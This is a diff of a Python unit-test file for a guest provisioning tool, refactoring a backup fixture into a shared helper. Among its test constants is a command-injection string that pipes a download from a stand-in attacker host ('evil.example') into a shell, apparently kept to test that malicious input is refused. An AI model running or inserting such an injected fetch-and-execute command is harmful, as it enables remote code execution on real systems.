@@ -15,7 +15,7 @@ from hypothesis import strategies as st
 
 from provisioning.guest import backups, records, state, update
 from provisioning.guest.common import DASHBOARD, GATEWAY, Refusal
-from tests.unit.switching import NEW, OLD, Killed, World, broken, made, migrate, tell
+from tests.unit.switching import NEW, OLD, Killed, World, broken, made, migrate, with_a_backup
 
 FUTURE = "20990101T000000Z-evil"
 EVIL = "latest; curl -s http://evil.example/x|sh"
@@ -24,13 +24,7 @@ RUNNING = {GATEWAY: OLD, DASHBOARD: OLD}
 
 @pytest.fixture
 def world(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> World:
-    """The agent runs, has a backup of its first word, and has learned a second one since."""
-    world = made(tmp_path, monkeypatch)
-    world.configure(OLD)
-    backups.make(world.subject())
-    tell(world.data, "INSERT INTO words VALUES ('second')")
-    world.done.clear()
-    return world
+    return with_a_backup(tmp_path, monkeypatch)
 
 
 def plant(world: World, name: str, content: Any) -> Path:
